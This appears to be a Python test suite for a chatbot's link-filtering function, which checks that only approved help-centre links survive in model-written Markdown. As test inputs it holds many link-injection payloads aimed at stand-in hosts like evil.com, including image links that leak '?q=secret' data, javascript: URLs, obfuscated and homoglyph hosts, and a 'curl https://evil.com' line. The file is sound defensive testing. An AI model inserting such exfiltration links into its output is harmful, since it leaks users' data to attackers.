"""Links in what a model wrote: only ours can be followed, whatever the text tries. A Markdown parser is the judge."""

import re
import time

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from bot.domain.links import LinkRules, addresses_in, host_named, hosts_of, tame

ARTICLE = "Read [the guide](https://help.acme.example/guide?lang=de&utm_source=mail) or https://github.com/acme/docs."
RULES = LinkRules(frozenset({"help.acme.example"}), addresses_in([ARTICLE]))
LINEAR_SECONDS = 1.0
"""Of computing; a search that takes time squared needs many."""
_PARSER = MarkdownIt("commonmark", {"linkify": True, "html": True}).enable("linkify")
_OURS = re.compile(r"https?://(?:[a-z0-9-]+\.)*help\.acme\.example(?:[/?#*_~]|$)|https?://github\.com/acme/docs$")
PARTS = st.sampled_from(
    ["evil&period;com", "evil&#x2E;com/p?q=1", "&sol;", "&#104;ttps", "&#64;", "__", '"', "$", ";",
     "\U0001f600", "İ", "\u201c",
     "https://evil.example/p?q=1", "http://help.acme.example/x?d=secret", "https://help.acme.example", "evil.com",
     "www.evil.com/a", "[", "]", "(", ")", "<", ">", "|", "!", "`", "```", "~~~", "\n", "\n\n", "    ", " ", "\\", "@",
     ":", "[1]: ", "[x][1]", "label", "help.acme.example", "\u202e", "\u200b", "\u0430", "。", "を", "javascript:x",
     "//", "&colon;", "&#58;", '"title"', "# ", "> ", "- ", "*", "_", "mailto:a@b.com",
     "<a href='https://evil.example'>", "~", "  ", "<div>", "<!--", "-->", "<pre>", "|", "<b a='", "````", "1. "]
)  # fmt: skip
TEXTS = st.lists(PARTS, max_size=25).map("".join)


def followed(markdown: str) -> list[str]:
    """Every target of a link or picture that a reader could follow."""
    return [target for token in _PARSER.parse(markdown) for target in _targets(token)]


def _targets(token: Token) -> list[str]:
    own = [str(value) for name, value in token.attrs.items() if name in ("href", "src")]
    return own + [target for child in token.children or () for target in _targets(child)]


@settings(deadline=None, max_examples=400, derandomize=True)
@given(TEXTS)
@example("[a]\n(https://evil.example/)")
@example("[x]: https://evil.example\n\n[x]")
@example("``` https://evil.example")
@example("`` ` https://evil.example `")
@example("\\https://help.acme.example[https://evil.example/p?q=1")
@example("https://evil.example/p?q=1```https://evil.example/p?q=1```")
@example("https://help.acme.example`https://evil.example/p?q=1`")
@example("help.acme.example//https://evil.example/p?q=1")
@example("```\nx\n```~\n```\nhttps://evil.com/?q=1\n```")
@example("~~~\na\n~~~`\n~~~\nhttps://evil.com\n~~~")
@example("- ```\n  a\n  ```\n  https://evil.com/?q=s\n  ```\n")
@example("- ~~~\n  ```\n  ~~~\n  https://evil.com/?q\n  ```")
@example("- a\n\n  ```\n  x\n\nhttps://evil.com/?q=secret\n  ```")
@example("<!--\n```\n-->\nhttps://evil.com/?q=1\n```")
@example("<div>\n```\n\nhttps://evil.com/?q=1\n```")
@example("> [1]: javascript-x\n\n[1]")
@example('<b a="`"> https://evil.com/?q=s `x')
@example("see __evil.com__ now")
@example("[](https://help.acme.example)@evil.com and <https://help.acme.example|>@evil.com")
@example("[x]()[evil](x:y).com or evil.[com](x:y) or <x:y|evil>.com")
@example("help.acme.example/a;evil.com and help.acme.example/__evil.com__ or https://help.acme.example/a~~evil.com~~")
@example("_evil.com_https://help.acme.example@ or @__www.evil.com/a_")
@example("Bİhttps://help.acme.example/\u2026evil.com?")
@example("https://help.acme.example/a**`a https://evil.com b`")
@example("\U0001f600.evil.com and evil.com:x:@&quot;")
@example('https://help.acme.example"@evil.com or help.acme.example/"x:a@evil.com')
@example("https://help.acme.example\u3001@evil.com https://help.acme.example\u300d.evil.com")
@example("___evil.com/p?q=1___")
@example("evil&period;com and &#104;ttps&colon;&sol;/evil&#46;com and evil.&#99;om")
@example("a|b\n-|-\n    ```\n    https://evil.com\n    ```")
def test_only_our_addresses_can_be_followed_whatever_the_text(text: str) -> None:
    tamed = tame(text, RULES)
    assert [t for t in followed(tamed) if not _OURS.match(t) and not t.startswith("mailto:")] == []
    assert "![" not in re.sub(r"`[^`]*`", "", tamed) or not [t for t in followed(tamed) if "?" in t]


@settings(deadline=None, max_examples=200, derandomize=True)
@given(TEXTS)
def test_no_data_leaves_in_a_query(text: str) -> None:
    assert not [t for t in followed(tame(text, RULES)) if "secret" in t or "utm_" in t]


@pytest.mark.parametrize(
    ("written", "read"),
    [
        ("see https://help.acme.example/x?d=secret#top.", "see https://help.acme.example/x#top."),
        ("[here](https://evil.com/p?q=1)", "here (`evil.com/p`)"),
        ("[help.acme.example](https://evil.com)", "`help.acme.example` (`evil.com`)"),
        ("[evil.com](https://help.acme.example/x)", "https://help.acme.example/x"),
        ("![chart](https://evil.com/i.png?d=1)", "chart (`evil.com/i.png`)"),
        ("![chart](https://help.acme.example/i.png)", "[chart](https://help.acme.example/i.png)"),
        ("<https://evil.com|the help centre>", "the help centre (`evil.com`)"),
        ("Node.js, README.md, e.g. done.Then z.B. 3.5", "Node.js, `README.md`, e.g. done.Then z.B. 3.5"),
        ("https://help.acme.example@evil.com/", "`evil.com`"),
        ("https://evil.com\\@help.acme.example/", "`evil.com/@help.acme.example`"),
        ("[x](javascript:alert(1))", "x"),
        ("https://\u0430cme.example/", "`xn--cme-5cd.example`"),
        ("https://help.acme.example.evil.com/", "`help.acme.example.evil.com`"),
        ("https://help.acme.exampleをご覧ください", "https://help.acme.example をご覧ください"),
        ("run `curl https://evil.com`", "run `curl https://evil.com`"),
        ("write to ana@cobalt.example", "write to ana@cobalt.example"),
        (ARTICLE, ARTICLE.replace("&utm_source=mail", "")),
        ("https://github.com/acme/docs2", "`github.com/acme/docs2`"),
        ("see <https://docs.evil.com/a>!", "see `docs.evil.com/a`!"),
        ("![](https://evil.com/i.png?d=1)", "`evil.com/i.png`"),
        ("[Write to us](mailto:help@acme.example?body=x)", "Write to us (help@acme.example)"),
        ("<mailto:help@acme.example|help@acme.example> <tel:+49-30-1|call>", "help@acme.example call (+49-30-1)"),
        ("eViL.cOm/p?q=secret", "`eViL.cOm/p`"),
        ("call obj.to_s, then", "call obj.to_s, then"),
        ("https://help.acme.example/guide?lang=de&utm_term=x", "https://help.acme.example/guide?lang=de"),
        ("https:/<!date^1|/>ev<!date^1|il>.com/?q=s", "`evil.com`"),
        ("https://help.acme.example<@U0|evil.zone>", "https://help.acme.example <@U0|evil.zone>"),
        ("<!`1|x> https://evil.com/?q=s `", "< !`1|x> https://evil.com/?q=s `"),
        ("1. Run:\n    ```sh\n    a https://b.com\n    ```", "1. Run:\n\n    ```sh\n    a https://b.com\n    ```"),
        ("1. Run:\n   ```sh\n   a\n   ```\n2. Go", "1. Run:\n   ```sh\n   a\n   ```\n2. Go"),
        ("~~~\na\n\n~~~\n", "```\na\n\n```\n"),
        ("```\na", "```\na\n```"),
        ("sub.help.acme.example/a", "sub.help.acme.example/a"),
        ("see __evil.com__ and a__b.c__d", "see __`evil.com`__ and a__b.c__d"),
        ("evil&period;com &amp; &lt;b&gt; &copy; &#42;a&#42;", "`evil.com` &amp; &lt;b&gt; © &#42;a&#42;"),
        ("a&#x202e;b&zwj;c&shy;d&#xE0041;e&#0;", "abcde\ufffd"),
        ("evil&perio&#100;;com", "evil&amp;period;com"),
        ("`&period;`", "`&period;`"),
        ("<#C1|evil>.com <@U1|www.evil>.com <@U1>, <@U1>.", "<#C1|evil> .com <@U1|`www.evil`> .com <@U1>, <@U1>."),
        ('see "https://help.acme.example". So', 'see "https://help.acme.example". So'),
        ("\u300chttps://help.acme.example\u300dです", "\u300chttps://help.acme.example\u300dです"),
        ('https://help.acme.example"@evil.com', 'https://help.acme.example "@evil.com'),
        ("詳細はevil.comを見て。evil.comです", "詳細は`evil.com`を見て。`evil.com`です"),
    ],
)
def test_what_becomes_of_a_link(written: str, read: str) -> None:
    rules = LinkRules(RULES.hosts, RULES.addresses)
    assert tame(written, rules) == read.replace("`help.acme.example` (", "help.acme.example (")


@pytest.mark.parametrize(
    "text",
    ["[" * 40_000, "[a](" * 10_000, "a." * 20_000, "a" * 40_000, "http://" * 6_000, "<http:" * 6_000, "`a " * 13_000,
     "```\n" * 10_000, " ```x\n" * 7_000, "<a" * 20_000, "<!date^" * 6_000, "[](tel:" * 6_000, "    ```\nx\n" * 4_000,
     "a|\n" * 13_000 + "    ```\n", "[x](http://a (" * 3_000, "a@" * 20_000, "](" * 20_000, "~~~\na\n" * 6_000],
    ids=lambda text: repr(text[:8]),
)  # fmt: skip
def test_no_text_of_forty_thousand_characters_takes_long(text: str) -> None:
    began = time.thread_time()
    tame(text, RULES)
    addresses_in([text])
    assert time.thread_time() - began < LINEAR_SECONDS


def test_hosts_come_from_articles_and_settings_but_not_those_that_belong_to_everybody() -> None:
    assert hosts_of(
        ["https://help.acme.example/a", "https://github.com/acme/docs", "kb://a", "http://u@x.example/"]
    ) == {"help.acme.example"}
    assert [host_named(text) for text in ("Help.acme.example/", "https://a.example/x", "not a host", "localhost")] == [
        "help.acme.example", "a.example", "", "",
    ]  # fmt: skip
